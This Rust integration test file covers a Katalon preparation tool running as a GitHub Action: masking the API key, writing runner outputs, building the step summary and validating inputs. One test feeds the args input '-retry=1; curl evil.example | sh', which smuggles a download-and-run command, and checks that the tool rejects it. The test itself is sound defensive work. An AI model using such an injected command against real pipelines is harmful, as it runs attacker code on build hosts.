//! `prepare` inside GitHub Actions (`GITHUB_ACTIONS=true`) and the action's
//! entry point (`github-action`, which reads `INPUT_*`): what the runner
//! reads back — the mask first, `$GITHUB_OUTPUT` by the runner's rules,
//! paths valid on the host, a step summary without the key.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Stdio;

use assert_cmd::Command;

const KEY: &str = "sentinel-KEY-7f3a9c2e5b";

/// A keyword plugin jar: a zip holding `Keywords/katalon-plugin.json`.
fn keyword_jar(marker: &str) -> Vec<u8> {
    let mut buf = std::io::Cursor::new(Vec::new());
    {
        let mut zip = zip::ZipWriter::new(&mut buf);
        let opts = zip::write::SimpleFileOptions::default();
        zip.start_file("Keywords/katalon-plugin.json", opts).unwrap();
        zip.write_all(br#"{"keywords":["com.example.Keywords"]}"#).unwrap();
        zip.start_file("marker.txt", opts).unwrap();
        zip.write_all(marker.as_bytes()).unwrap();
        zip.finish().unwrap();
    }
    buf.into_inner()
}

fn sha256_hex(bytes: &[u8]) -> String {
    katalon_prep::digest::Sha256::of(bytes).hex()
}

/// Serves `body` to every GET on a loopback port, counting requests.
fn serve(body: Vec<u8>) -> (String, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = hits.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let mut req = Vec::new();
            let mut byte = [0u8; 1];
            while !req.ends_with(b"\r\n\r\n") && stream.read(&mut byte).map(|n| n == 1).unwrap_or(false) {
                req.push(byte[0]);
            }
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nContent-Type: application/java-archive\r\nConnection: close\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(head.as_bytes());
            let _ = stream.write_all(&body);
        }
    });
    (format!("http://127.0.0.1:{port}/downloads/remote-keywords-2.0.jar"), hits)
}

/// A checkout: `tests/katalon/Demo.prj` with a suite, a config listing a
/// jar from the repo and one from a URL, a `.github/file_commands` folder.
struct Workspace {
    _tmp: tempfile::TempDir,
    root: PathBuf,
    output: PathBuf,
    summary: PathBuf,
}

fn workspace(url: &str, url_sha: &str) -> Workspace {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("workspace");
    let project = root.join("tests/katalon");
    std::fs::create_dir_all(project.join("Test Suites")).unwrap();
    std::fs::create_dir_all(project.join("Profiles")).unwrap();
    // The globals the tests pass (`-g_note`, `-g_who`) must exist for the lint.
    std::fs::write(
        project.join("Profiles/default.glbl"),
        "<?xml version=\"1.0\"?>\n<GlobalVariableEntities><name>default</name><defaultProfile>true</defaultProfile>\
         <GlobalVariableEntity><name>note</name><initValue>''</initValue></GlobalVariableEntity>\
         <GlobalVariableEntity><name>who</name><initValue>''</initValue></GlobalVariableEntity>\
         </GlobalVariableEntities>\n",
    )
    .unwrap();
    std::fs::create_dir_all(root.join("vendor")).unwrap();
    std::fs::write(project.join("Demo.prj"), "<?xml version=\"1.0\"?>\n<Project><name>Demo</name></Project>\n")
        .unwrap();
    std::fs::write(
        project.join("Test Suites/Smoke.ts"),
        "<?xml version=\"1.0\"?>\n<TestSuiteEntity><name>Smoke</name></TestSuiteEntity>\n",
    )
    .unwrap();
    std::fs::write(root.join("vendor/local-keywords-1.0.jar"), keyword_jar("local")).unwrap();
    std::fs::write(
        root.join("katalon-prep.yml"),
        format!(
            "project: tests/katalon\nrun:\n  test-suite: Test Suites/Smoke\n  browser: Chrome (headless)\n\
             plugins:\n  - path: vendor/local-keywords-1.0.jar\n  - url: {url}\n    sha256: {url_sha}\n"
        ),
    )
    .unwrap();
    let commands = tmp.path().join("file_commands");
    std::fs::create_dir_all(&commands).unwrap();
    Workspace { output: commands.join("set_output"), summary: commands.join("step_summary"), root, _tmp: tmp }
}

fn with_remote() -> (Workspace, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    let jar = keyword_jar("remote");
    let sha = sha256_hex(&jar);
    let (url, hits) = serve(jar);
    (workspace(&url, &sha), hits)
}

/// The command as the runner starts a container action's process.
fn on_github(ws: &Workspace) -> Command {
    Command::from_std(on_github_std(ws))
}

fn on_github_std(ws: &Workspace) -> std::process::Command {
    let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin("katalon-prep"));
    cmd.current_dir(&ws.root)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", ws.root.parent().unwrap().join("home"))
        .env("GITHUB_ACTIONS", "true")
        .env("GITHUB_OUTPUT", &ws.output)
        .env("GITHUB_STEP_SUMMARY", &ws.summary)
        .env("INPUT_API-KEY", KEY);
    cmd
}

/// Parses `$GITHUB_OUTPUT` as the runner does: `name=value`, or
/// `name<<DELIM`, the value's lines, then `DELIM` alone on a line.
fn parse_outputs(text: &str) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let mut lines = text.lines();
    while let Some(line) = lines.next() {
        if line.is_empty() {
            continue;
        }
        let heredoc = line.find("<<");
        let equals = line.find('=');
        match (heredoc, equals) {
            (Some(h), e) if e.is_none_or(|e| h < e) => {
                let (name, delim) = (&line[..h], &line[h + 2..]);
                let mut value = Vec::new();
                loop {
                    let l = lines.next().unwrap_or_else(|| panic!("output {name}: delimiter {delim} never closes"));
                    if l == delim {
                        break;
                    }
                    value.push(l);
                }
                out.insert(name.to_string(), value.join("\n"));
            }
            (_, Some(e)) => {
                out.insert(line[..e].to_string(), line[e + 1..].to_string());
            }
            _ => panic!("not an output line: {line:?}"),
        }
    }
    out
}

fn outputs(ws: &Workspace) -> BTreeMap<String, String> {
    parse_outputs(&std::fs::read_to_string(&ws.output).unwrap())
}

fn split(line: &str) -> Vec<String> {
    let split = katalon_prep::katalonc::split::split(line).unwrap();
    assert_eq!(split.rest, None, "one command");
    split.words.into_iter().map(|w| w.text).collect()
}

#[test]
fn add_mask_comes_before_any_other_output() {
    let (ws, _) = with_remote();
    // Both streams into one file, in the order they were written.
    let log = ws.root.parent().unwrap().join("log");
    let file = std::fs::File::create(&log).unwrap();
    let mut cmd = on_github_std(&ws);
    cmd.arg("prepare").stdout(Stdio::from(file.try_clone().unwrap())).stderr(Stdio::from(file));
    let status = cmd.status().unwrap();
    assert!(
        status.success(),
        "prepare failed ({status}):\n{}",
        std::fs::read_to_string(&log).unwrap_or_default().replace(KEY, "[KEY]")
    );
    let text = std::fs::read_to_string(&log).unwrap();
    let first = text.lines().next().unwrap();
    assert_eq!(first, format!("::add-mask::{KEY}"), "{text}");
    assert_eq!(text.matches(KEY).count(), 2, "the mask and the line on stdout only:\n{text}");
}

#[test]
fn outputs_parse_by_the_runners_rules_and_carry_the_line() {
    let (ws, _) = with_remote();
    let assert = on_github(&ws).arg("prepare").assert().success();
    let stdout = String::from_utf8(assert.get_output().stdout.clone()).unwrap();
    let out = outputs(&ws);
    assert_eq!(
        out.keys().map(String::as_str).collect::<Vec<_>>(),
        ["args", "args-for-katalon-action", "cache-dir", "cache-key", "plugins-dir", "project-path"]
    );
    assert_eq!(out["args"], stdout.trim_end(), "the `args` output is the line printed on stdout");
    let args = split(&out["args"]);
    assert!(args.contains(&format!("-apiKey={KEY}")), "{args:?}");
    assert!(args.contains(&"-testSuitePath=Test Suites/Smoke".to_string()), "{args:?}");
    assert!(out["cache-key"].starts_with("katalon-prep-"), "{}", out["cache-key"]);
}

#[test]
fn cache_key_output_is_what_cache_key_prints_for_the_lock() {
    let (ws, _) = with_remote();
    on_github(&ws).env_remove("GITHUB_ACTIONS").arg("lock").assert().success();
    let printed = on_github(&ws).env_remove("GITHUB_ACTIONS").args(["cache", "key"]).assert().success();
    let printed = String::from_utf8(printed.get_output().stdout.clone()).unwrap();
    on_github(&ws).args(["prepare", "--locked"]).assert().success();
    assert_eq!(outputs(&ws)["cache-key"], printed.trim_end());
}

#[test]
fn a_value_spanning_lines_is_refused_before_any_output_is_written() {
    let (ws, _) = with_remote();
    // A global whose value spans lines would make the one-line `args` output
    // several lines (issue 9): refused, exit 10, no output written. (The
    // heredoc form of multi-line outputs is unit-tested in src/ci/github.rs.)
    let config = ws.root.join("katalon-prep.yml");
    let text =
        std::fs::read_to_string(&config).unwrap().replace("run:\n", "run:\n  globals:\n    note: \"two\\nlines\"\n");
    std::fs::write(&config, text).unwrap();
    on_github(&ws).arg("prepare").assert().code(10).stderr(predicates::str::contains("holds a line break"));
    assert_eq!(std::fs::read_to_string(&ws.output).unwrap_or_default(), "");
}

#[test]
fn output_paths_are_relative_to_the_workspace_and_exist_there() {
    let (ws, _) = with_remote();
    on_github(&ws).arg("prepare").arg("--cache-dir").arg(".katalon-prep-cache").assert().success();
    let out = outputs(&ws);
    assert_eq!(out["project-path"], "tests/katalon/Demo.prj");
    assert_eq!(out["plugins-dir"], "tests/katalon/Plugins");
    assert_eq!(out["cache-dir"], ".katalon-prep-cache");
    for name in ["project-path", "plugins-dir", "cache-dir"] {
        let value = Path::new(&out[name]);
        assert!(value.is_relative(), "{name}: {}", value.display());
        assert!(ws.root.join(value).exists(), "{name}: {} is not in the workspace", value.display());
    }
    assert!(ws.root.join("tests/katalon/Plugins/local-keywords-1.0.jar").is_file());
    assert!(ws.root.join("tests/katalon/Plugins/remote-keywords-2.0.jar").is_file());
}

#[test]
fn args_for_katalon_action_leave_out_what_that_action_adds() {
    let (ws, _) = with_remote();
    on_github(&ws).arg("prepare").assert().success();
    let args = split(&outputs(&ws)["args-for-katalon-action"]);
    for added in ["-noSplash", "-runMode", "-projectPath"] {
        assert!(!args.iter().any(|a| a.split('=').next() == Some(added)), "{added} in {args:?}");
    }
    assert_eq!(args, ["-testSuitePath=Test Suites/Smoke", "-browserType=Chrome (headless)", &format!("-apiKey={KEY}")]);
}

#[test]
fn step_summary_is_a_plugin_table_without_the_key() {
    let (ws, _) = with_remote();
    on_github(&ws).arg("prepare").assert().success();
    let md = std::fs::read_to_string(&ws.summary).unwrap();
    assert!(!md.contains(KEY), "{md}");
    assert!(md.contains("| Plugin | Version | Source | SHA-256 | Fetched |\n|---|---|---|---|---|\n"), "{md}");
    let local = sha256_hex(&keyword_jar("local"));
    let remote = sha256_hex(&keyword_jar("remote"));
    assert!(
        md.contains(&format!(
            "| local-keywords-1.0.jar | - | path vendor/local-keywords-1.0.jar | `{}` | cached |",
            &local[..12]
        )),
        "{md}"
    );
    assert!(md.contains("| remote-keywords-2.0.jar | - | url http://127.0.0.1:"), "{md}");
    assert!(md.contains(&format!("| `{}` | downloaded |", &remote[..12])), "{md}");
    assert!(md.contains("-apiKey=***"), "the masked line is shown: {md}");
}

#[test]
fn step_summary_says_cached_on_a_warm_run() {
    let (ws, hits) = with_remote();
    on_github(&ws).arg("prepare").assert().success();
    std::fs::remove_file(&ws.summary).unwrap();
    on_github(&ws).arg("prepare").assert().success();
    let md = std::fs::read_to_string(&ws.summary).unwrap();
    assert!(md.contains("2 plugins: 2 cached, 0 downloaded"), "{md}");
    assert!(!md.contains("| downloaded |"), "{md}");
    assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), 1, "the warm run made no request");
}

#[test]
fn outside_github_nothing_is_written_to_the_runner_files() {
    let (ws, _) = with_remote();
    on_github(&ws).env_remove("GITHUB_ACTIONS").arg("prepare").assert().success();
    assert!(!ws.output.exists());
    assert!(!ws.summary.exists());
}

#[test]
fn the_action_entry_point_reads_its_inputs() {
    let (ws, _) = with_remote();
    let config = ws.root.join("katalon-prep.yml");
    std::fs::rename(&config, ws.root.join("ci.yml")).unwrap();
    on_github(&ws)
        .arg("github-action")
        .env("INPUT_CONFIG", "ci.yml")
        .env("INPUT_CACHE-DIR", "cache/plugins")
        .env("INPUT_OFFLINE", "true")
        .env("INPUT_ARGS", r#"-statusDelay=30 '-g_who=a b' --config -webui.autoUpdateDrivers=true"#)
        .assert()
        .success();
    let out = outputs(&ws);
    assert_eq!(out["cache-dir"], "cache/plugins");
    assert!(ws.root.join("cache/plugins/CACHEDIR.TAG").is_file());
    let args = split(&out["args"]);
    let key_at = args.iter().position(|a| a.starts_with("-apiKey=")).unwrap();
    assert_eq!(&args[key_at - 2..key_at], ["-statusDelay=30", "-g_who=a b"]);
    assert_eq!(&args[key_at + 1..], ["--config", "-webui.autoUpdateDrivers=true"]);
    let settings = ws.root.join("tests/katalon/settings/internal/com.kms.katalon.execution.properties");
    assert!(std::fs::read_to_string(settings).unwrap().contains("plugin.reloadOption=\"OFFLINE\""));
}

#[test]
fn the_locked_input_makes_a_missing_lock_fatal() {
    let (ws, hits) = with_remote();
    on_github(&ws).arg("github-action").env("INPUT_LOCKED", "true").assert().code(31);
    assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), 0, "nothing was downloaded");
    assert!(!ws.output.exists());
}

#[test]
fn the_action_caches_inside_the_workspace_by_default() {
    let (ws, _) = with_remote();
    on_github(&ws).arg("github-action").assert().success();
    assert_eq!(outputs(&ws)["cache-dir"], ".katalon-prep-cache");
    assert!(ws.root.join(".katalon-prep-cache/CACHEDIR.TAG").is_file());
}

#[test]
fn the_action_rejects_a_boolean_input_that_is_neither_true_nor_false() {
    let (ws, _) = with_remote();
    on_github(&ws)
        .arg("github-action")
        .env("INPUT_OFFLINE", "yes")
        .assert()
        .code(10)
        .stderr(predicates::str::contains("The action input `offline` is `yes`; expected true or false"));
    assert!(!ws.output.exists());
}

#[test]
fn the_action_rejects_shell_syntax_in_args() {
    let (ws, _) = with_remote();
    on_github(&ws)
        .arg("github-action")
        .env("INPUT_ARGS", "-retry=1; curl evil.example | sh")
        .assert()
        .code(10)
        .stderr(predicates::str::contains("The action input `args` holds shell syntax"));
}

#[test]
fn the_action_accepts_args_over_several_lines() {
    let (ws, _) = with_remote();
    on_github(&ws).arg("github-action").env("INPUT_ARGS", "-retry=1\n-statusDelay=30\n").assert().success();
    let args = outputs(&ws)["args"].clone();
    let words = split(&args);
    assert!(words.contains(&"-retry=1".to_string()) && words.contains(&"-statusDelay=30".to_string()), "{args}");
}

#[test]
fn the_action_rejects_args_that_do_not_split() {
    let (ws, _) = with_remote();
    on_github(&ws).arg("github-action").env("INPUT_ARGS", "-g_x='open").assert().code(10).stderr(
        predicates::str::contains("The action input `args` cannot be split into options: unterminated single quote"),
    );
}

#[test]
fn an_api_key_among_the_extra_options_is_refused_unprinted() {
    let (ws, _) = with_remote();
    let assert = on_github(&ws)
        .arg("github-action")
        .env("INPUT_ARGS", "-apiKey=other-secret-value")
        .assert()
        .code(10)
        .stderr(predicates::str::contains("The extra katalonc options contain an API key option"));
    let stderr = String::from_utf8_lossy(&assert.get_output().stderr).into_owned();
    assert!(!stderr.contains("other-secret-value"), "{stderr}");
    assert!(!ws.output.exists());
}

#[test]
fn extra_options_after_double_dash_join_the_line() {
    let (ws, _) = with_remote();
    on_github(&ws)
        .env_remove("GITHUB_ACTIONS")
        .args(["args", "--without-api-key", "--", "-retry=2"])
        .assert()
        .success()
        .stdout(predicates::str::ends_with(" '-browserType=Chrome (headless)' -retry=2\n"));
}

#[test]
fn the_workdir_as_input_makes_the_paths_absolute_for_the_official_action() {
    let (ws, _) = with_remote();
    on_github(&ws).arg("github-action").env("INPUT_WORKDIR_AS", "/home/runner/work/shop/shop").assert().success();
    let out = outputs(&ws);
    let args = split(&out["args"]);
    assert!(args.contains(&"-projectPath=/home/runner/work/shop/shop/tests/katalon/Demo.prj".to_string()), "{args:?}");
    // Published paths stay relative: they are for the next step, on the host.
    assert_eq!(out["project-path"], "tests/katalon/Demo.prj");
}

#[test]
fn the_allow_input_turns_lint_rules_off() {
    let (ws, _) = with_remote();
    // Refused without the input: a lint error.
    on_github(&ws).arg("github-action").env("INPUT_ARGS", "-retry=1 -testSuitPath=x").assert().code(13);
    // Allowed, the error goes; a warning of another rule is still printed.
    let out = on_github(&ws)
        .arg("github-action")
        .env("INPUT_ALLOW", "unknown-option")
        .env("INPUT_ARGS", "-retry=1 -testSuitPath=x -brandNewOption=1")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    crate::support::assert_code(&out, 0);
    assert!(err.contains("[unlisted-option]"), "{err}");
    // Both allowed: no finding is printed; the line is emitted.
    let out = on_github(&ws)
        .arg("github-action")
        .env("INPUT_ALLOW", "unknown-option,\nunlisted-option")
        .env("INPUT_ARGS", "-retry=1 -testSuitPath=x -brandNewOption=1")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    crate::support::assert_code(&out, 0);
    assert!(!err.contains("unlisted-option") && !err.contains("unknown-option"), "{err}");
    assert!(split(&outputs(&ws)["args"]).contains(&"-brandNewOption=1".to_string()));
}

#[test]
fn the_allow_input_with_an_unknown_rule_fails_the_step() {
    let (ws, hits) = with_remote();
    on_github(&ws)
        .arg("github-action")
        .env("INPUT_ALLOW", "unlisted-optoin")
        .assert()
        .code(10)
        .stderr(predicates::str::contains("`unlisted-optoin` is not a lint rule; did you mean `unlisted-option`?"));
    assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), 0, "nothing was downloaded");
    assert!(!ws.output.exists() || std::fs::read_to_string(&ws.output).unwrap().is_empty());
}
